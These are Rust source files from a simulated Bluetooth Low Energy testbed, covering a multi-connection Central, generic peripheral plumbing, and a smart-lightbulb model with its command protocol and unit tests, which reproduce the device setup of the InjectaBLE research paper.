                    self.last_disconnect_reason = Some(*reason);
                    if self.auto_reconnect {
                        let jitter = Duration::from_micros(self.rng.below(20_000));
                        ctx.set_timer_local(
                            self.reconnect_delay + jitter,
                            TimerKey(RECONNECT_TIMER),
                        );
                    }
                }
                _ => {}
            }
            self.event_log.push_back(event);
        }
        // Re-run actions that may have been queued by event handling
        // (e.g. pairing completion queues StartEncryption).
        while let Some(action) = self.host.take_action() {
            match action {
                SecurityAction::StartEncryption { key, rand, ediv } => {
                    if self.ll.is_connected() {
                        self.ll.request_encryption(ctx, key, rand, ediv);
                    }
                }
            }
        }
    }
}

impl RadioListener for Central {
    fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.start(ctx);
    }

    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let RadioEvent::Timer { key, .. } = &event {
            if key.0 & 0xFF >= APP_TIMER_BASE {
                if key.0 == RECONNECT_TIMER && !self.ll.is_connected() {
                    self.ll.start_initiating(ctx, self.target, self.params);
                }
                return;
            }
        }
        self.ll.handle(ctx, event, &mut self.host);
        self.pump(ctx);
    }
}
