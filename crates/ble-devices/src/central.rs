//! A smartphone-like Central.
//!
//! Initiates connections to a target peripheral, keeps them alive, can pair
//! and encrypt, and re-establishes the connection after a loss — the role
//! the paper fills with a Mirage-driven HCI Central (experiments 1–2) and a
//! real smartphone (experiment 3).
//!
//! # Multiple connections
//!
//! A real smartphone keeps several peripherals connected at once by
//! time-multiplexing one radio across their connection events. This Central
//! does the same: [`Central::add_peer`] claims one of
//! [`CENTRAL_SLOTS`] fixed connection slots (a
//! [`ConnectionManager`] slot with a generation-checked
//! [`ConnHandle`]) and gives it its own [`LinkLayer`] + [`HostStack`] pair.
//! All slots share the node's single radio and timer space:
//!
//! - every extra slot's Link Layer tags its timer keys with the slot index
//!   ([`LinkLayer::set_timer_tag`]), so timers route back to their owner;
//! - received frames route by access address (each live connection has a
//!   unique one; advertising frames go to the slot currently initiating);
//! - `TxDone` routes to the slot that last started a transmission;
//! - connection establishment is serialised — one slot scans at a time —
//!   exactly as a single-radio Central must.
//!
//! All host stacks of a multi-peer Central draw TX buffers from one shared
//! [`PacketPool`] under a [`QosPolicy::ReserveN`] policy, so one chatty
//! connection cannot starve the others. A single-peer Central (no
//! `add_peer` call) behaves — and schedules — byte-identically to the
//! historical single-connection implementation.

use std::collections::VecDeque;

use ble_host::{
    ConnHandle, ConnectionManager, GattServer, HostEvent, HostStack, PacketPool, QosPolicy,
    SecurityAction, DEFAULT_BUF_CAPACITY, MAX_POOL_CLIENTS,
};
use ble_link::{ConnectionParams, DeviceAddress, LinkLayer, SleepClockAccuracy, UpdateRequest};
use ble_phy::{AccessAddress, NodeCtx, RadioEvent, RadioListener, TimerKey};
use ble_telemetry::TelemetryEvent;
use simkit::{Duration, SimRng};

use crate::peripheral::APP_TIMER_BASE;

const RECONNECT_TIMER: u64 = APP_TIMER_BASE;

/// Fixed number of connection slots a [`Central`] arbitrates (slot 0 is the
/// primary connection every scenario has; up to 7 more via
/// [`Central::add_peer`]).
pub const CENTRAL_SLOTS: usize = 8;

/// Per-slot link state for the extra (non-primary) connections.
struct PeerLink {
    ll: LinkLayer,
    host: HostStack,
    target: DeviceAddress,
    params: ConnectionParams,
}

/// A Central device: connection initiator and application driver.
pub struct Central {
    /// The Link Layer of the primary connection (slot 0).
    pub ll: LinkLayer,
    /// The host stack of the primary connection (ATT client + GATT server
    /// with a GAP name).
    pub host: HostStack,
    target: DeviceAddress,
    params: ConnectionParams,
    /// Reconnect automatically after disconnection.
    pub auto_reconnect: bool,
    reconnect_delay: Duration,
    /// Number of connections successfully initiated (all slots).
    pub connections: usize,
    /// Number of disconnections observed (all slots).
    pub disconnections: usize,
    /// Reason of the last disconnection.
    pub last_disconnect_reason: Option<u8>,
    /// Application events drained from the hosts, for inspection by tests
    /// and experiment harnesses.
    pub event_log: VecDeque<HostEvent>,
    /// Writes to enqueue on (re)connection: (handle, value, acknowledged).
    /// Applied to every slot (the multi-peer presets connect to identical
    /// device profiles).
    pub on_connect_writes: Vec<(u16, Vec<u8>, bool)>,
    /// Pair (and then encrypt) automatically on connection (slot 0 only).
    pub pair_on_connect: bool,
    rng: SimRng,
    conns: ConnectionManager<CENTRAL_SLOTS>,
    extras: Vec<PeerLink>,
    /// Slot currently scanning/initiating (establishment is serialised).
    initiating: Option<usize>,
    /// Slots waiting for the radio to finish the current initiation.
    pending_initiations: VecDeque<usize>,
    /// Slot whose Link Layer last started a transmission (`TxDone` routing).
    tx_owner: usize,
    /// Shared TX pool once the Central goes multi-peer.
    shared_pool: Option<PacketPool>,
    /// Telemetry high-water mark already reported.
    seen_high_water: usize,
    /// Per-client pool denials already reported.
    seen_pool_denials: [u64; MAX_POOL_CLIENTS],
    /// Slot-allocation denials already reported.
    seen_slot_denials: u64,
}

impl Central {
    /// Creates a Central that will connect to `target` using `params`.
    ///
    /// # Example
    ///
    /// ```
    /// use ble_devices::Central;
    /// use ble_link::{AddressType, ConnectionParams, DeviceAddress};
    /// use simkit::SimRng;
    /// let mut rng = SimRng::seed_from(1);
    /// let params = ConnectionParams::typical(&mut rng, 36);
    /// let central = Central::new(0xA0, DeviceAddress::new([0xB1; 6], AddressType::Public), params, rng);
    /// assert_eq!(central.connections, 0);
    /// ```
    pub fn new(
        addr_seed: u8,
        target: DeviceAddress,
        params: ConnectionParams,
        mut rng: SimRng,
    ) -> Central {
        let address = DeviceAddress::new([addr_seed; 6], ble_link::AddressType::Public);
        let host_rng = SimRng::seed_from(rng.below(u64::MAX - 1));
        let host = HostStack::new(address, GattServer::new(), host_rng);
        let mut conns = ConnectionManager::new();
        conns.allocate_at(0, target);
        Central {
            ll: LinkLayer::new(address, SleepClockAccuracy::Ppm50),
            host,
            target,
            params,
            auto_reconnect: true,
            reconnect_delay: Duration::from_millis(50),
            connections: 0,
            disconnections: 0,
            last_disconnect_reason: None,
            event_log: VecDeque::new(),
            on_connect_writes: Vec::new(),
            pair_on_connect: false,
            rng,
            conns,
            extras: Vec::new(),
            initiating: None,
            pending_initiations: VecDeque::new(),
            tx_owner: 0,
            shared_pool: None,
            seen_high_water: 0,
            seen_pool_denials: [0; MAX_POOL_CLIENTS],
            seen_slot_denials: 0,
        }
    }

    /// Starts scanning/initiating (call once from `Simulation::with_ctx`).
    /// With extra peers added, slot 0 initiates first and the remaining
    /// slots queue behind it.
    pub fn start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.initiating = Some(0);
        for slot in 1..=self.extras.len() {
            self.pending_initiations.push_back(slot);
        }
        self.ll.start_initiating(ctx, self.target, self.params);
    }

    /// Replaces the connection parameters used for *future* connections on
    /// the primary slot.
    pub fn set_params(&mut self, params: ConnectionParams) {
        self.params = params;
    }

    /// Requests Channel Selection Algorithm #2 (BLE 5) for future
    /// connections on the primary slot.
    pub fn set_prefer_csa2(&mut self, prefer: bool) {
        self.ll.set_prefer_csa2(prefer);
    }

    /// The parameters used for primary-slot connections.
    pub fn params(&self) -> ConnectionParams {
        self.params
    }

    /// Queues a write to be sent immediately (if connected) on slot 0.
    pub fn write(&mut self, handle: u16, value: Vec<u8>) {
        self.host.write(handle, value);
    }

    /// Requests a connection-parameter update on the live primary
    /// connection.
    pub fn update_connection(&mut self, update: UpdateRequest, instant_delta: u16) {
        self.ll.request_connection_update(update, instant_delta);
    }

    // ------------------------------------------------------------------
    // Connection slots
    // ------------------------------------------------------------------

    /// Claims a connection slot for an additional peripheral. Call before
    /// the world starts (establishment is queued behind slot 0). Returns
    /// `None` when all [`CENTRAL_SLOTS`] slots are taken — the denial is
    /// counted and reported as a `SlotDenied` telemetry event.
    ///
    /// The first added peer switches every slot's host stack onto one
    /// shared [`QosPolicy::ReserveN`] packet pool.
    pub fn add_peer(
        &mut self,
        target: DeviceAddress,
        params: ConnectionParams,
    ) -> Option<ConnHandle> {
        let slot = 1 + self.extras.len();
        let handle = self.conns.allocate_at(slot, target)?;
        if self.shared_pool.is_none() {
            // Going multi-peer: one pool, two buffers reserved per slot,
            // the rest first-come-first-served.
            let pool = PacketPool::new(
                4 * CENTRAL_SLOTS,
                DEFAULT_BUF_CAPACITY,
                QosPolicy::ReserveN {
                    reserve: [2; MAX_POOL_CLIENTS],
                },
            );
            self.host.set_pool(pool.clone(), 0);
            self.shared_pool = Some(pool);
        }
        let address = self.ll.address();
        let host_rng = SimRng::seed_from(self.rng.below(u64::MAX - 1));
        let mut host = HostStack::new(address, GattServer::new(), host_rng);
        if let Some(pool) = &self.shared_pool {
            host.set_pool(pool.clone(), slot);
        }
        let mut ll = LinkLayer::new(address, SleepClockAccuracy::Ppm50);
        ll.set_timer_tag(slot as u8);
        self.extras.push(PeerLink {
            ll,
            host,
            target,
            params,
        });
        Some(handle)
    }

    /// The slot bookkeeping: states, peers and generation-checked handles.
    pub fn conn_manager(&self) -> &ConnectionManager<CENTRAL_SLOTS> {
        &self.conns
    }

    /// Current-generation handles of every occupied slot, slot order.
    pub fn conn_handles(&self) -> Vec<ConnHandle> {
        (0..CENTRAL_SLOTS)
            .filter_map(|i| self.conns.handle_at(i))
            .collect()
    }

    /// How many slots hold a live Link Layer connection right now.
    pub fn live_connections(&self) -> usize {
        let primary = usize::from(self.ll.is_connected());
        primary + self.extras.iter().filter(|p| p.ll.is_connected()).count()
    }

    /// The Link Layer behind `handle`, or `None` for a stale handle.
    pub fn ll_for(&self, handle: ConnHandle) -> Option<&LinkLayer> {
        if !self.conns.is_current(handle) {
            return None;
        }
        match handle.index() {
            0 => Some(&self.ll),
            i => self.extras.get(i - 1).map(|p| &p.ll),
        }
    }

    /// The host stack behind `handle`, or `None` for a stale handle.
    pub fn host_for_mut(&mut self, handle: ConnHandle) -> Option<&mut HostStack> {
        if !self.conns.is_current(handle) {
            return None;
        }
        match handle.index() {
            0 => Some(&mut self.host),
            i => self.extras.get_mut(i - 1).map(|p| &mut p.host),
        }
    }

    /// Sends an ATT Write Command on the connection behind `handle`.
    /// Returns `false` (and sends nothing) for a stale handle.
    pub fn write_command_to(&mut self, handle: ConnHandle, att_handle: u16, value: &[u8]) -> bool {
        match self.host_for_mut(handle) {
            Some(host) => {
                host.write_command(att_handle, value);
                true
            }
            None => false,
        }
    }

    /// Requests a Link-Layer disconnect of the connection behind `handle`.
    /// The owning slot re-establishes on its own (auto-reconnect), sending
    /// a fresh `CONNECT_IND`. Returns `false` — and sends nothing — for a
    /// stale handle or a slot whose link is already down.
    pub fn disconnect(&mut self, handle: ConnHandle, reason: u8) -> bool {
        if !self.conns.is_current(handle) {
            return false;
        }
        let ll = match handle.index() {
            0 => &mut self.ll,
            i => match self.extras.get_mut(i - 1) {
                Some(p) => &mut p.ll,
                None => return false,
            },
        };
        if !ll.is_connected() {
            return false;
        }
        ll.request_disconnect(reason);
        true
    }

    /// The shared multi-peer packet pool, once [`Central::add_peer`] built
    /// it.
    pub fn shared_pool(&self) -> Option<&PacketPool> {
        self.shared_pool.as_ref()
    }

    fn multi_peer(&self) -> bool {
        !self.extras.is_empty()
    }

    // ------------------------------------------------------------------
    // Event routing
    // ------------------------------------------------------------------

    /// Which slot an incoming frame's access address belongs to.
    fn slot_for_aa(&self, aa: AccessAddress) -> usize {
        if aa == AccessAddress::ADVERTISING {
            return self.initiating.unwrap_or(0);
        }
        if let Some(info) = self.ll.connection_info() {
            if info.params.access_address == aa {
                return 0;
            }
        }
        for (i, p) in self.extras.iter().enumerate() {
            if let Some(info) = p.ll.connection_info() {
                if info.params.access_address == aa {
                    return i + 1;
                }
            }
        }
        // A data access address no live slot owns yet: the CONNECT_IND was
        // just sent and the first slave frame arrives before the initiating
        // Link Layer flipped to connected.
        self.initiating.unwrap_or(0)
    }

    fn route(&self, event: &RadioEvent) -> usize {
        if self.extras.is_empty() {
            return 0;
        }
        match event {
            RadioEvent::Timer { key, .. } => (key.0 >> 56) as usize,
            RadioEvent::TxDone { .. } => self.tx_owner,
            RadioEvent::SyncDetected { access_address, .. } => self.slot_for_aa(*access_address),
            RadioEvent::FrameReceived(frame) => self.slot_for_aa(frame.access_address),
        }
    }

    fn dispatch(&mut self, ctx: &mut NodeCtx<'_>, slot: usize, event: RadioEvent) {
        // `tx_start_count` (not `is_transmitting`) detects a transmission
        // started by this slot even when it replaced another slot's in-flight
        // frame: the busy-flag edge misses back-to-back (true→true) starts,
        // which would route the eventual `TxDone` to the wrong slot.
        let tx_before = ctx.tx_start_count();
        if slot == 0 {
            self.ll.handle(ctx, event, &mut self.host);
        } else {
            let Some(p) = self.extras.get_mut(slot - 1) else {
                return;
            };
            p.ll.handle(ctx, event, &mut p.host);
        }
        if ctx.tx_start_count() != tx_before {
            self.tx_owner = slot;
        }
        if slot == 0 {
            self.pump_primary(ctx);
        } else {
            self.pump_extra(ctx, slot);
        }
        if self.multi_peer() {
            self.emit_pool_telemetry(ctx);
        }
    }

    /// Hands the radio to the next queued slot once the current initiation
    /// resolved (connected or torn down).
    fn start_next_initiation(&mut self, ctx: &mut NodeCtx<'_>) {
        if self.initiating.is_some() {
            return;
        }
        let Some(slot) = self.pending_initiations.pop_front() else {
            return;
        };
        self.initiating = Some(slot);
        if slot == 0 {
            self.ll.start_initiating(ctx, self.target, self.params);
        } else if let Some(p) = self.extras.get_mut(slot - 1) {
            p.ll.start_initiating(ctx, p.target, p.params);
        }
    }

    fn note_established(&mut self, ctx: &mut NodeCtx<'_>, slot: usize) {
        if let Some(h) = self.conns.handle_at(slot) {
            self.conns.establish(h);
            if self.multi_peer() {
                ctx.emit(|| TelemetryEvent::ConnEstablished { handle: h.to_raw() });
            }
        }
        if self.initiating == Some(slot) {
            self.initiating = None;
            self.start_next_initiation(ctx);
        }
    }

    fn note_released(&mut self, ctx: &mut NodeCtx<'_>, slot: usize) {
        if let Some(h) = self.conns.handle_at(slot) {
            self.conns.begin_disconnect(h);
            self.conns.release(h);
            if self.multi_peer() {
                ctx.emit(|| TelemetryEvent::ConnReleased { handle: h.to_raw() });
            }
        }
        if self.initiating == Some(slot) {
            self.initiating = None;
            self.start_next_initiation(ctx);
        }
    }

    /// Reports pool pressure and slot denials the bookkeeping accumulated
    /// since the last pump (multi-peer only — a single-connection Central
    /// emits exactly the historical event stream).
    fn emit_pool_telemetry(&mut self, ctx: &mut NodeCtx<'_>) {
        if let Some(pool) = &self.shared_pool {
            let stats = pool.stats();
            if stats.high_water > self.seen_high_water {
                self.seen_high_water = stats.high_water;
                let in_use = stats.high_water as u32;
                ctx.emit(|| TelemetryEvent::PoolHighWater { in_use });
            }
            for (c, now) in stats.denials.iter().enumerate() {
                if *now > self.seen_pool_denials[c] {
                    self.seen_pool_denials[c] = *now;
                    let client = c as u32;
                    ctx.emit(|| TelemetryEvent::PoolExhausted { client });
                }
            }
        }
        if self.conns.denials() > self.seen_slot_denials {
            self.seen_slot_denials = self.conns.denials();
            ctx.emit(|| TelemetryEvent::SlotDenied);
        }
    }

    fn pump_primary(&mut self, ctx: &mut NodeCtx<'_>) {
        while let Some(action) = self.host.take_action() {
            match action {
                SecurityAction::StartEncryption { key, rand, ediv } => {
                    if self.ll.is_connected() {
                        self.ll.request_encryption(ctx, key, rand, ediv);
                    }
                }
            }
        }
        while let Some(event) = self.host.poll_event() {
            match &event {
                HostEvent::Connected { .. } => {
                    self.connections += 1;
                    let writes = self.on_connect_writes.clone();
                    for (handle, value, acknowledged) in writes {
                        if acknowledged {
                            self.host.write(handle, value);
                        } else {
                            self.host.write_command(handle, &value);
                        }
                    }
                    if self.pair_on_connect {
                        if self.host.bonded_key().is_some() {
                            self.host.encrypt_with_bonded_key();
                        } else {
                            self.host.start_pairing();
                        }
                    }
                    self.note_established(ctx, 0);
                }
                HostEvent::Disconnected { reason } => {
                    self.disconnections += 1;
                    self.last_disconnect_reason = Some(*reason);
                    self.note_released(ctx, 0);
                    if self.auto_reconnect {
                        let jitter = Duration::from_micros(self.rng.below(20_000));
                        ctx.set_timer_local(
                            self.reconnect_delay + jitter,
                            TimerKey(RECONNECT_TIMER),
                        );
                    }
                }
                _ => {}
            }
            self.event_log.push_back(event);
        }
        // Re-run actions that may have been queued by event handling
        // (e.g. pairing completion queues StartEncryption).
        while let Some(action) = self.host.take_action() {
            match action {
                SecurityAction::StartEncryption { key, rand, ediv } => {
                    if self.ll.is_connected() {
                        self.ll.request_encryption(ctx, key, rand, ediv);
                    }
                }
            }
        }
    }

    fn pump_extra(&mut self, ctx: &mut NodeCtx<'_>, slot: usize) {
        loop {
            let Some(p) = self.extras.get_mut(slot - 1) else {
                return;
            };
            let Some(event) = p.host.poll_event() else {
                break;
            };
            match &event {
                HostEvent::Connected { .. } => {
                    self.connections += 1;
                    let writes = self.on_connect_writes.clone();
                    if let Some(p) = self.extras.get_mut(slot - 1) {
                        for (handle, value, acknowledged) in writes {
                            if acknowledged {
                                p.host.write(handle, value);
                            } else {
                                p.host.write_command(handle, &value);
                            }
                        }
                    }
                    self.note_established(ctx, slot);
                }
                HostEvent::Disconnected { reason } => {
                    self.disconnections += 1;
                    self.last_disconnect_reason = Some(*reason);
                    self.note_released(ctx, slot);
                    if self.auto_reconnect {
                        let jitter = Duration::from_micros(self.rng.below(20_000));
                        let key = RECONNECT_TIMER | ((slot as u64) << 8);
                        ctx.set_timer_local(self.reconnect_delay + jitter, TimerKey(key));
                    }
                }
                _ => {}
            }
            self.event_log.push_back(event);
        }
        // Extra slots run plaintext: drain (and drop) any security actions
        // so the queue cannot grow.
        if let Some(p) = self.extras.get_mut(slot - 1) {
            while p.host.take_action().is_some() {}
        }
    }

    fn on_reconnect_timer(&mut self, ctx: &mut NodeCtx<'_>, slot: usize) {
        if slot == 0 {
            if self.ll.is_connected() {
                return;
            }
            if self.conns.handle_at(0).is_none() {
                self.conns.allocate_at(0, self.target);
            }
            if self.multi_peer() {
                // Respect the single-radio queue discipline (with priority):
                // stealing the initiating token mid-flight would strand the
                // other slot's scan — advertising frames route to the
                // initiating slot, so a clobbered slot never sees another
                // ADV_IND and wedges in `Connecting`.
                if self.initiating.is_none() {
                    self.pending_initiations.push_front(0);
                    self.start_next_initiation(ctx);
                } else if self.initiating != Some(0) && !self.pending_initiations.contains(&0) {
                    self.pending_initiations.push_front(0);
                }
                return;
            }
            // The primary slot always restarts immediately — the historical
            // single-connection behaviour.
            self.initiating = Some(0);
            self.ll.start_initiating(ctx, self.target, self.params);
            return;
        }
        let Some(p) = self.extras.get_mut(slot - 1) else {
            return;
        };
        if p.ll.is_connected() {
            return;
        }
        let target = p.target;
        if self.conns.handle_at(slot).is_none() {
            self.conns.allocate_at(slot, target);
        }
        if self.initiating.is_none() {
            self.pending_initiations.push_back(slot);
            self.start_next_initiation(ctx);
        } else if !self.pending_initiations.contains(&slot) {
            self.pending_initiations.push_back(slot);
        }
    }
}

impl RadioListener for Central {
    fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.start(ctx);
    }

    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let RadioEvent::Timer { key, .. } = &event {
            if key.0 & 0xFF >= APP_TIMER_BASE {
                if key.0 & 0xFF == RECONNECT_TIMER {
                    let slot = ((key.0 >> 8) & 0xFF) as usize;
                    self.on_reconnect_timer(ctx, slot);
                }
                return;
            }
        }
        let slot = self.route(&event);
        self.dispatch(ctx, slot, event);
    }
}
