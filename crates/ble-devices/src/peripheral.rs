//! Generic peripheral plumbing shared by the victim devices.

use ble_host::{HostEvent, HostStack, SecurityAction};
use ble_link::{DeviceAddress, LinkLayer, SleepClockAccuracy};
use ble_phy::{NodeCtx, RadioEvent, RadioListener};
use simkit::{Duration, SimRng};

/// Timer keys with a low byte at or above this value belong to the
/// application layer, not the Link Layer.
pub const APP_TIMER_BASE: u64 = 0x80;

/// Application behaviour of a peripheral: reacts to host events (writes to
/// its characteristics, reads, disconnections).
pub trait PeripheralApp {
    /// Handles one host event; may update GATT values through the stack.
    fn handle_event(&mut self, host: &mut HostStack, event: &HostEvent);
}

/// A complete peripheral device: Link Layer + host stack + application.
///
/// Advertises until connected; processes application traffic while
/// connected; re-advertises after a disconnection (like every commercial
/// peripheral the paper targets).
pub struct Peripheral<A> {
    /// The Link Layer.
    pub ll: LinkLayer,
    /// The host stack (GATT server and friends).
    pub host: HostStack,
    /// The application model.
    pub app: A,
    adv_data: Vec<u8>,
    adv_interval: Duration,
    /// Whether to restart advertising after a disconnection.
    pub auto_readvertise: bool,
    /// Count of connections accepted so far.
    pub connections: usize,
    /// Count of disconnections observed.
    pub disconnections: usize,
    /// Reason code of the last disconnection.
    pub last_disconnect_reason: Option<u8>,
}

impl<A: PeripheralApp> Peripheral<A> {
    /// Assembles a peripheral from its parts.
    pub fn assemble(
        address: DeviceAddress,
        sca: SleepClockAccuracy,
        host: HostStack,
        app: A,
        adv_data: Vec<u8>,
    ) -> Self {
        Peripheral {
            ll: LinkLayer::new(address, sca),
            host,
            app,
            adv_data,
            adv_interval: Duration::from_millis(100),
            auto_readvertise: true,
            connections: 0,
            disconnections: 0,
            last_disconnect_reason: None,
        }
    }

    /// Starts advertising (call once from `Simulation::with_ctx`).
    pub fn start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.ll
            .start_advertising(ctx, self.adv_data.clone(), vec![], self.adv_interval);
    }

    /// Drains host → LL actions and host → app events.
    fn pump(&mut self, ctx: &mut NodeCtx<'_>) {
        while let Some(action) = self.host.take_action() {
            match action {
                SecurityAction::StartEncryption { key, rand, ediv } => {
                    if self.ll.is_connected() {
                        self.ll.request_encryption(ctx, key, rand, ediv);
                    }
                }
            }
        }
        while let Some(event) = self.host.poll_event() {
            match &event {
                HostEvent::Connected { .. } => self.connections += 1,
                HostEvent::Disconnected { reason } => {
                    self.disconnections += 1;
                    self.last_disconnect_reason = Some(*reason);
                    if self.auto_readvertise {
                        self.ll.start_advertising(
                            ctx,
                            self.adv_data.clone(),
                            vec![],
                            self.adv_interval,
                        );
                    }
                }
                _ => {}
            }
            self.app.handle_event(&mut self.host, &event);
        }
    }
}

impl<A: PeripheralApp> RadioListener for Peripheral<A> {
    fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.start(ctx);
    }

    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let RadioEvent::Timer { key, .. } = &event {
            if key.0 & 0xFF >= APP_TIMER_BASE {
                // No app timers defined for peripherals yet.
                return;
            }
        }
        self.ll.handle(ctx, event, &mut self.host);
        self.pump(ctx);
    }
}

/// Builds a host stack with a GAP service exposing `name` as the Device
/// Name characteristic — shared scaffolding for the concrete devices.
pub(crate) fn host_with_gap(address: DeviceAddress, name: &str, rng: SimRng) -> (HostStack, u16) {
    use ble_host::gatt::props;
    use ble_host::{GattServer, Uuid};
    let mut server = GattServer::new();
    let name_handle = server
        .service(Uuid::GAP_SERVICE)
        .characteristic(Uuid::DEVICE_NAME, props::READ, name.as_bytes().to_vec())
        .finish();
    (HostStack::new(address, server, rng), name_handle)
}
