//! The connected lightbulb — the paper's main experimental target.
//!
//! Reverse-engineered shape (paper §VII-A: "We reversed the communication
//! protocol built over GATT used by this lightbulb, then selected a Write
//! Request allowing to turn the light off as our injection frame"): a
//! vendor service with one control characteristic taking tagged commands.

use ble_host::{HostEvent, HostStack, Uuid};
use ble_link::{AddressType, DeviceAddress, SleepClockAccuracy};
use simkit::SimRng;

use crate::peripheral::{host_with_gap, Peripheral, PeripheralApp};

/// The bulb's vendor service UUID.
pub const BULB_SERVICE_UUID: Uuid = Uuid::Short(0xFFE0);
/// The bulb's control characteristic UUID.
pub const BULB_CONTROL_UUID: Uuid = Uuid::Short(0xFFE1);

/// Command opcodes of the bulb's vendor protocol.
pub mod command {
    /// `[0x01, on]` — power on/off.
    pub const POWER: u8 = 0x01;
    /// `[0x02, r, g, b]` — set colour.
    pub const COLOUR: u8 = 0x02;
    /// `[0x03, level]` — set brightness (0–100).
    pub const BRIGHTNESS: u8 = 0x03;
    /// `[0x04, padding...]` — vendor ping/no-op of arbitrary length (lets
    /// experiments vary payload size with an acknowledged effect).
    pub const PING: u8 = 0x04;
}

/// The bulb's application state.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BulbApp {
    /// Whether the bulb is lit.
    pub on: bool,
    /// Current colour.
    pub rgb: (u8, u8, u8),
    /// Current brightness (0–100).
    pub brightness: u8,
    /// Log of every command applied, in order.
    pub command_log: Vec<Vec<u8>>,
    /// Count of vendor pings received.
    pub pings: usize,
    control_handle: u16,
}

impl PeripheralApp for BulbApp {
    fn handle_event(&mut self, _host: &mut HostStack, event: &HostEvent) {
        let HostEvent::Written { handle, value, .. } = event else {
            return;
        };
        if *handle != self.control_handle {
            return;
        }
        self.command_log.push(value.to_vec());
        match value.split_first() {
            Some((&command::POWER, rest)) => {
                self.on = rest.first().copied().unwrap_or(0) != 0;
            }
            Some((&command::COLOUR, rest)) if rest.len() >= 3 => {
                self.rgb = (rest[0], rest[1], rest[2]);
            }
            Some((&command::BRIGHTNESS, rest)) => {
                self.brightness = rest.first().copied().unwrap_or(0).min(100);
            }
            Some((&command::PING, _)) => self.pings += 1,
            _ => {}
        }
    }
}

/// A simulated connected lightbulb.
pub type Lightbulb = Peripheral<BulbApp>;

impl Lightbulb {
    /// Creates a lightbulb with the given address seed.
    ///
    /// # Example
    ///
    /// ```
    /// use ble_devices::Lightbulb;
    /// use simkit::SimRng;
    /// let bulb = Lightbulb::new(0xB1, SimRng::seed_from(1));
    /// assert!(!bulb.app.on);
    /// assert!(bulb.control_handle() > 0);
    /// ```
    pub fn new(addr_seed: u8, rng: SimRng) -> Lightbulb {
        use ble_host::gatt::props;
        let address = DeviceAddress::new([addr_seed; 6], AddressType::Public);
        let (mut host, _name) = host_with_gap(address, "SmartBulb", rng);
        let control_handle = host
            .server_mut()
            .service(BULB_SERVICE_UUID)
            .characteristic(
                BULB_CONTROL_UUID,
                props::READ | props::WRITE | props::WRITE_WITHOUT_RESPONSE,
                vec![0],
            )
            .finish();
        let app = BulbApp {
            on: false,
            rgb: (255, 255, 255),
            brightness: 100,
            command_log: Vec::new(),
            pings: 0,
            control_handle,
        };
        Peripheral::assemble(
            address,
            SleepClockAccuracy::Ppm50,
            host,
            app,
            // Flags + complete local name.
            adv_data_with_name("SmartBulb"),
        )
    }

    /// Handle of the control characteristic (what the attacker writes to).
    pub fn control_handle(&self) -> u16 {
        self.app.control_handle
    }
}

/// Standard AD structure: flags + complete local name.
pub(crate) fn adv_data_with_name(name: &str) -> Vec<u8> {
    let mut out = vec![0x02, 0x01, 0x06];
    out.push(name.len() as u8 + 1);
    out.push(0x09);
    out.extend_from_slice(name.as_bytes());
    out
}

/// Builds the bulb command payloads used throughout the experiments.
pub mod payloads {
    use super::command;

    /// Turn the bulb off — the paper's canonical injected write.
    pub fn power_off() -> Vec<u8> {
        vec![command::POWER, 0]
    }

    /// Turn the bulb on.
    pub fn power_on() -> Vec<u8> {
        vec![command::POWER, 1]
    }

    /// Set an RGB colour.
    pub fn colour(r: u8, g: u8, b: u8) -> Vec<u8> {
        vec![command::COLOUR, r, g, b]
    }

    /// Set brightness.
    pub fn brightness(level: u8) -> Vec<u8> {
        vec![command::BRIGHTNESS, level]
    }

    /// A ping padded to an exact value length.
    pub fn ping_padded(value_len: usize) -> Vec<u8> {
        assert!(value_len >= 1);
        let mut v = vec![command::PING];
        v.resize(value_len, 0xEE);
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bulb() -> Lightbulb {
        Lightbulb::new(0xB1, SimRng::seed_from(1))
    }

    fn write_event(handle: u16, value: Vec<u8>) -> HostEvent {
        HostEvent::Written {
            handle,
            value: value.into(),
            acknowledged: true,
        }
    }

    #[test]
    fn power_commands_toggle_state() {
        let mut b = bulb();
        let h = b.control_handle();
        let mut host_dummy = {
            let (host, _) = host_with_gap(
                DeviceAddress::new([1; 6], AddressType::Public),
                "x",
                SimRng::seed_from(2),
            );
            host
        };
        b.app
            .handle_event(&mut host_dummy, &write_event(h, payloads::power_on()));
        assert!(b.app.on);
        b.app
            .handle_event(&mut host_dummy, &write_event(h, payloads::power_off()));
        assert!(!b.app.on);
        assert_eq!(b.app.command_log.len(), 2);
    }

    #[test]
    fn colour_and_brightness() {
        let mut b = bulb();
        let h = b.control_handle();
        let (mut host, _) = host_with_gap(
            DeviceAddress::new([1; 6], AddressType::Public),
            "x",
            SimRng::seed_from(2),
        );
        b.app
            .handle_event(&mut host, &write_event(h, payloads::colour(10, 20, 30)));
        assert_eq!(b.app.rgb, (10, 20, 30));
        b.app
            .handle_event(&mut host, &write_event(h, payloads::brightness(250)));
        assert_eq!(b.app.brightness, 100, "clamped");
    }

    #[test]
    fn writes_to_other_handles_ignored() {
        let mut b = bulb();
        let (mut host, _) = host_with_gap(
            DeviceAddress::new([1; 6], AddressType::Public),
            "x",
            SimRng::seed_from(2),
        );
        b.app
            .handle_event(&mut host, &write_event(0x7777, payloads::power_on()));
        assert!(!b.app.on);
        assert!(b.app.command_log.is_empty());
    }

    #[test]
    fn padded_ping_lengths() {
        assert_eq!(payloads::ping_padded(1).len(), 1);
        assert_eq!(payloads::ping_padded(9).len(), 9);
        let mut b = bulb();
        let h = b.control_handle();
        let (mut host, _) = host_with_gap(
            DeviceAddress::new([1; 6], AddressType::Public),
            "x",
            SimRng::seed_from(2),
        );
        b.app
            .handle_event(&mut host, &write_event(h, payloads::ping_padded(5)));
        assert_eq!(b.app.pings, 1);
    }

    #[test]
    fn adv_data_contains_name() {
        let b = bulb();
        let _ = b;
        let ad = adv_data_with_name("SmartBulb");
        assert!(ad.windows(9).any(|w| w == b"SmartBulb"));
    }
}
