//! Simulated BLE devices reproducing the InjectaBLE paper's testbed.
//!
//! The paper's experiments (§VI–VII) target three commercial devices — "a
